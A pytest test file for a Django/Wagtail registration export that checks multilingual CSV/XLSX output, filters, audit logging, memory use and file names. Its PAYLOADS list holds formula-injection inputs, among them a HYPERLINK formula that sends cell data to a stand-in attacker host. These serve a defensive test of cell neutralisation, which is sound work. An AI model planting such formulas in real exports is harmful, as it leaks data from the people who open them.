"""The merged export: all languages in one file, Dutch headings and labels, safe cells, filters."""

import csv
import datetime
import gc
import io
import re
import tracemalloc
from html.parser import HTMLParser
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone, translation
from wagtail.log_actions import registry as log_action_registry
from wagtail.models import PageLogEntry

from campaign.dates import local
from forms.exports.csv import csv_chunks
from forms.exports.rows import CHUNK_SIZE, RegistrationExport
from forms.exports.xlsx import write_xlsx
from forms.models import Booking, Registration
from tests.forms.people import make_user
from tests.forms.utils import choice_ids, field, make_form, source_sessions, valid_post
from tests.second_factor import login_verified

BOM = b"\xef\xbb\xbf"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+32 470 12 34 56",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
]


@pytest.fixture
def admin_client(client, db):
    login_verified(client, make_user("boss", superuser=True))
    return client


def export_url(form, file_format, **filters):
    url = reverse("campaign_forms_registrations:export", args=[form.pk, file_format])
    if filters:
        url += "?" + "&".join(f"{k}={v}" for k, v in filters.items())
    return url


def read_csv(response):
    assert response.status_code == 200, response.content[:300]
    content = b"".join(response.streaming_content)
    assert content.startswith(BOM)
    return list(csv.reader(io.StringIO(content[len(BOM) :].decode("utf-8"))))


def read_xlsx(response):
    assert response.status_code == 200
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)), read_only=True)
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def submit_in_three_languages(client, form_pages):
    for language in ["nl", "fr", "ar"]:
        page = form_pages[language]
        response = client.post(page.get_url(), valid_post(page, email=f"{language}@example.org"))
        assert response.status_code == 302, language
    assert Registration.objects.filter(form=form_pages["nl"]).count() == 3


def column(rows, heading):
    index = rows[0].index(heading)
    return [row[index] for row in rows[1:]]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_one_file_for_every_language_with_dutch_headings_and_labels(client, form_pages, file_format):
    submit_in_three_languages(client, form_pages)
    nl = form_pages["nl"]
    come_as, language_help = field(nl, "radio", 0), field(nl, "radio", 1)
    # Reorder the Dutch options after people answered: labels follow the stored values, not positions.
    come_as.choices = [dict(block) for block in reversed(list(come_as.choices.raw_data))]
    come_as.save()
    login_verified(client, make_user("boss", superuser=True))

    response = client.get(export_url(form_pages["fr"], file_format))  # any language's id: the same export
    rows = read_csv(response) if file_format == "csv" else read_xlsx(response)

    first_session = source_sessions(nl)[0]
    header = rows[0]
    assert header[:3] == ["id", "verzonden op", "taal"]
    session_heading = f"{first_session.theme.title} – "
    assert any(h.startswith(session_heading) and " mei " in h for h in header), header
    assert [f.label for f in nl.form_fields.all() if f.field_type != "sessions"] == header[-7:]
    assert "Sessies" not in header  # sessions appear as one status column each
    assert sorted(column(rows, "taal")) == ["ar", "fr", "nl"]
    assert column(rows, come_as.label) == ["inwoner van Herent"] * 3
    assert column(rows, language_help.label) == ["Ja, ik heb een tolk nodig"] * 3
    assert column(rows, field(nl, "consent").label) == ["ja"] * 3
    status_column = next(h for h in header if h.startswith(session_heading))
    assert column(rows, status_column) == ["bevestigd"] * 3
    assert set(column(rows, "E-mailadres")) == {"nl@example.org", "fr@example.org", "ar@example.org"}


def test_submitted_at_is_belgian_time_and_multiple_choices_are_joined(admin_client, campaign):
    form = make_form(campaign, fields=["singleline", "checkboxes", "dropdown"])
    boxes, dropdown = field(form, "checkboxes"), field(form, "dropdown")
    ids = choice_ids(boxes)
    Registration.objects.create(
        form=form,
        language="fr",
        data={boxes.key: [ids[2], ids[0], "weg-gehaald"], dropdown.key: "onbekend"},
        submitted_at=datetime.datetime(2026, 5, 3, 17, 30, tzinfo=datetime.UTC),
    )
    rows = read_csv(admin_client.get(export_url(form, "csv")))
    assert rows[1][1] == "2026-05-03 19:30:00"
    assert column(rows, boxes.label) == ["checkboxes optie 3; checkboxes optie 1; weg-gehaald"]
    assert column(rows, dropdown.label) == ["onbekend"]  # an unknown value comes out as it was stored


def test_formulas_are_neutralised_in_csv_and_text_in_xlsx(admin_client, form_page):
    for n, payload in enumerate(PAYLOADS):
        Registration.objects.create(
            form=form_page, language="nl", name=payload, data={"naam": payload, "opmerkingen": payload}
        )
        Registration.objects.filter(name=payload).update(
            submitted_at=timezone.now() + datetime.timedelta(seconds=n)
        )
    rows = read_csv(admin_client.get(export_url(form_page, "csv")))
    assert column(rows, "Naam") == ["'" + p for p in PAYLOADS]
    assert column(rows, "Opmerkingen") == ["'" + p for p in PAYLOADS]

    response = admin_client.get(export_url(form_page, "xlsx"))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.active
    headings = [cell.value for cell in sheet[1]]
    name_col = headings.index("Naam") + 1
    cells = [sheet.cell(row=r, column=name_col) for r in range(2, len(PAYLOADS) + 2)]
    assert all(cell.data_type == "s" for cell in cells)
    # Stored as the text typed (xlsxwriter escapes a carriage return as "_x000D_", as Excel does).
    assert [cell.value.replace("_x000D_", "\r") for cell in cells] == PAYLOADS


def test_filters_apply_to_the_export(admin_client, form_page):
    first, second = source_sessions(form_page)[:2]
    now = timezone.now()

    def registration(email, language, bookings, days_ago):
        r = Registration.objects.create(
            form=form_page,
            language=language,
            email=email,
            data={"e-mailadres": email},
            submitted_at=now - datetime.timedelta(days=days_ago),
        )
        for session, status in bookings:
            Booking.objects.create(registration=r, session=session, email=email, status=status)

    registration("a@example.org", "nl", [(first, "confirmed")], 0)
    registration("b@example.org", "fr", [(first, "waiting"), (second, "confirmed")], 2)
    registration("c@example.org", "ar", [(second, "waiting")], 5)

    def emails(**filters):
        rows = read_csv(admin_client.get(export_url(form_page, "csv", **filters)))
        return sorted(column(rows, "E-mailadres"))

    assert emails() == ["a@example.org", "b@example.org", "c@example.org"]
    assert emails(language="fr") == ["b@example.org"]
    assert emails(session=first.pk) == ["a@example.org", "b@example.org"]
    assert emails(status="waiting") == ["b@example.org", "c@example.org"]
    # Session and status must hold for the same booking.
    assert emails(session=first.pk, status="confirmed") == ["a@example.org"]
    today = timezone.localdate()
    assert emails(submitted_from=today - datetime.timedelta(days=3)) == ["a@example.org", "b@example.org"]
    assert emails(submitted_to=today - datetime.timedelta(days=1)) == ["b@example.org", "c@example.org"]

    listing = admin_client.get(
        reverse("campaign_forms_registrations:list", args=[form_page.pk]) + "?language=ar"
    )
    assert listing.status_code == 200
    assert b"c@example.org" in listing.content and b"a@example.org" not in listing.content


def test_bad_input(admin_client, campaign, form_page):
    assert admin_client.get(export_url(form_page, "pdf")).status_code == 400
    assert admin_client.get(export_url(form_page, "csv", status="lost")).status_code == 400
    assert admin_client.get(export_url(form_page, "csv", session="x")).status_code == 400
    assert admin_client.get(export_url(form_page, "xlsx", submitted_from="gisteren")).status_code == 400
    assert admin_client.get(export_url(form_page, "csv", language="xx")).status_code == 400
    missing = reverse("campaign_forms_registrations:export", args=[999999, "csv"])
    assert admin_client.get(missing, follow=True).status_code == 404
    listing_url = reverse("campaign_forms_registrations:list", args=[form_page.pk])
    response = admin_client.get(listing_url + "?status=lost&session=%00&submitted_to=31-31-2026&p=banana")
    assert response.status_code == 200
    assert "not understood" in " ".join(str(m) for m in response.context["messages"])

    empty = make_form(campaign, slug="leeg", fields=["singleline", "radio"])
    rows = read_csv(admin_client.get(export_url(empty, "csv")))
    assert rows == [["id", "verzonden op", "taal", *rows[0][3:-2], "Vraag singleline", "Vraag radio"]]
    assert len(read_xlsx(admin_client.get(export_url(empty, "xlsx")))) == 1


def test_session_of_an_unpublished_theme_still_exports(admin_client, form_page):
    session = source_sessions(form_page)[0]
    registration = Registration.objects.create(form=form_page, language="nl", data={"naam": "Ann"})
    Booking.objects.create(
        registration=registration, session=session, email="ann@example.org", status="confirmed"
    )
    session.theme.unpublish()
    rows = read_csv(admin_client.get(export_url(form_page, "csv")))
    heading = next(h for h in rows[0] if h.startswith(session.theme.title))
    assert column(rows, heading) == ["bevestigd"]
    assert column(rows, "Naam") == ["Ann"]


def test_every_export_is_in_the_audit_log(admin_client, form_page):
    Registration.objects.create(form=form_page, language="fr", data={})
    Registration.objects.create(form=form_page, language="nl", data={})
    b"".join(admin_client.get(export_url(form_page, "xlsx", language="fr")).streaming_content)
    entry = PageLogEntry.objects.get(page=form_page, action="campaign_forms.export")
    assert entry.user.username == "boss"
    assert entry.data == {"format": "xlsx", "rows": 1, "filters": {"language": "fr"}}
    html = admin_client.get(reverse("wagtailadmin_pages:history", args=[form_page.pk])).content.decode()
    language = re.search(r'<html lang="([^"]+)"', html).group(1)
    with translation.override(language):
        message = str(log_action_registry.get_formatter(entry).format_message(entry))
    assert "1" in message and "XLSX" in message
    assert message in html


def test_index_lists_each_form_once_with_its_languages(admin_client, form_pages):
    response = admin_client.get(reverse("campaign_forms_registrations:index"))
    assert response.status_code == 200
    html = response.content.decode()
    links = {
        code: f'href="{reverse("campaign_forms_registrations:list", args=[page.pk])}"'
        for code, page in form_pages.items()
    }
    assert html.count(links.pop("nl")) == 1
    assert not any(link in html for link in links.values())
    assert "nl, ar, en, fr, tr, uk" in html


def bulk_registrations(form, sessions, count, start=0):
    """``count`` registrations with two bookings each, written in bulk."""
    come_as = field(form, "radio", 0)
    ids = choice_ids(come_as)
    now = timezone.now()
    for offset in range(start, start + count, 5000):
        batch = [
            Registration(
                form=form,
                language=("nl", "fr", "ar")[n % 3],
                email=f"p{n}@example.org",
                name=f"Persoon {n}",
                data={"naam": f"Persoon {n}", "e-mailadres": f"p{n}@example.org", come_as.key: ids[n % 3]},
                submitted_at=now,
            )
            for n in range(offset, min(offset + 5000, start + count))
        ]
        created = Registration.objects.bulk_create(batch)
        if created[0].pk is None:  # backends that do not return ids
            created = list(Registration.objects.filter(email__in=[r.email for r in batch]))
        Booking.objects.bulk_create(
            Booking(registration=r, session=s, email=r.email, status="confirmed")
            for r in created
            for s in sessions
        )


def produce(export, file_format, tmp_path):
    """Write the whole file, consuming the CSV chunk by chunk without keeping it."""
    if file_format == "csv":
        for _chunk in csv_chunks(export):
            pass
    else:
        write_xlsx(export, str(tmp_path / "out.xlsx"))


def vm_kib(name):
    return int(re.search(rf"{name}:\s+(\d+) kB", Path("/proc/self/status").read_text()).group(1))


def peak_growth(export, file_format, tmp_path):
    """Peak memory growth in bytes while producing the file.

    On Linux: the resident-set high-water mark, reset just before (``clear_refs``), so C
    allocations (database driver, xlsxwriter) count too. Elsewhere: Python's tracemalloc.
    """
    gc.collect()
    try:
        Path("/proc/self/clear_refs").write_text("5")
    except OSError:
        tracemalloc.start()
        try:
            baseline = tracemalloc.get_traced_memory()[0]
            produce(export, file_format, tmp_path)
            return tracemalloc.get_traced_memory()[1] - baseline
        finally:
            tracemalloc.stop()
    before = vm_kib("VmRSS")
    produce(export, file_format, tmp_path)
    return (vm_kib("VmHWM") - before) * 1024


def test_memory_does_not_grow_with_the_number_of_rows(form_page, tmp_path):
    """Peak memory while exporting 10,000 and then 50,000 rows: five times the rows, same peak."""
    sessions = source_sessions(form_page)[:1]
    bulk_registrations(form_page, sessions, 10_000)
    export = RegistrationExport(form_page, form_page.registrations.all())
    small = {fmt: peak_growth(export, fmt, tmp_path) for fmt in ("csv", "xlsx")}
    bulk_registrations(form_page, sessions, 40_000, start=10_000)
    assert form_page.registrations.count() == 50_000
    large = {fmt: peak_growth(export, fmt, tmp_path) for fmt in ("csv", "xlsx")}
    assert CHUNK_SIZE < 10_000  # so the small export already spans several chunks
    for fmt in ("csv", "xlsx"):
        assert large[fmt] <= 1.5 * small[fmt] + 8 * 1024 * 1024, (fmt, small, large)
        assert small[fmt] < 40 * 1024 * 1024, (fmt, small)


class FilterFormDefaults(HTMLParser):
    """What a browser sends when the filter form is submitted untouched: each select's
    selected option (or, with none selected, its first one) and each input's value."""

    def __init__(self, names):
        super().__init__()
        self.names, self.values, self.select, self.first = set(names), {}, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "select" and attrs.get("name") in self.names:
            self.select, self.first = attrs["name"], None
        elif tag == "option" and self.select:
            if self.first is None:
                self.first = attrs.get("value", "")
            if "selected" in attrs:
                self.values[self.select] = attrs.get("value", "")
        elif tag == "input" and attrs.get("name") in self.names:
            self.values[attrs["name"]] = attrs.get("value") or ""

    def handle_endtag(self, tag):
        if tag == "select" and self.select:
            self.values.setdefault(self.select, self.first)
            self.select = None


def submitted_filters(html, **changes):
    parser = FilterFormDefaults(["language", "session", "status", "submitted_from", "submitted_to"])
    parser.feed(html)
    return {**parser.values, **changes}


def test_filtering_on_a_language_alone_keeps_every_session(admin_client, form_page):
    """Issue 8: the session filter preselected the first session, so "French" meant "French
    and in the first session"; "All sessions" is now the first choice and the default."""
    first, second = source_sessions(form_page)[:2]
    for email, language, session in [
        ("a@example.org", "nl", first),
        ("b@example.org", "fr", second),
        ("c@example.org", "fr", None),
        ("d@example.org", "fr", first),
    ]:
        r = Registration.objects.create(
            form=form_page, language=language, email=email, data={"e-mailadres": email}
        )
        if session:
            Booking.objects.create(registration=r, session=session, email=email, status="confirmed")
    listing_url = reverse("campaign_forms_registrations:list", args=[form_page.pk])
    html = admin_client.get(listing_url).content.decode()
    defaults = submitted_filters(html)
    assert defaults == dict.fromkeys(["language", "session", "status", "submitted_from", "submitted_to"], "")
    with translation.override("en"):
        for label in ("All sessions", "All languages", "All statuses"):
            assert re.search(rf'<option value=""[^>]*>{label}</option>', html), label

    # The form as a person sends it after choosing only "French": every French registration.
    query = submitted_filters(html, language="fr")
    listing = admin_client.get(listing_url, query)
    shown = {r.email for r, _bookings in listing.context["rows"]}
    assert shown == {"b@example.org", "c@example.org", "d@example.org"}
    # "All sessions" stays chosen in the re-rendered form, and the export follows the same filter.
    assert submitted_filters(listing.content.decode())["session"] == ""
    rows = read_csv(admin_client.get(export_url(form_page, "csv"), query))
    assert sorted(column(rows, "E-mailadres")) == ["b@example.org", "c@example.org", "d@example.org"]
    # Choosing a session is still possible, and combines with the language.
    rows = read_csv(admin_client.get(export_url(form_page, "csv"), {**query, "session": first.pk}))
    assert column(rows, "E-mailadres") == ["d@example.org"]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_file_name_carries_campaign_form_and_belgian_time(admin_client, form_page, campaign_b, file_format):
    """Two campaigns' forms both called "inschrijven" no longer download under one name."""
    other = make_form(campaign_b, slug="inschrijven", fields=["singleline", "email"])
    names = {}
    for form in (form_page, other):
        before = timezone.now()
        response = admin_client.get(export_url(form, file_format))
        after = timezone.now()
        assert response.status_code == 200
        b"".join(response.streaming_content)
        match = re.search(r'filename="([^"]+)"', response["Content-Disposition"])
        names[form.pk] = name = match.group(1)
        stamps = {f"{local(moment):%Y%m%d-%H%M}" for moment in (before, after)}
        utc = {f"{moment.astimezone(datetime.UTC):%Y%m%d-%H%M}" for moment in (before, after)}
        campaign = form.get_campaign()
        stamp = re.fullmatch(rf"{campaign.slug}-inschrijven-(\d{{8}}-\d{{4}})\.{file_format}", name).group(1)
        assert stamp in stamps and stamp not in utc
    assert names[form_page.pk].startswith("dorpaanzet-") and names[other.pk].startswith("ander-dorp-")
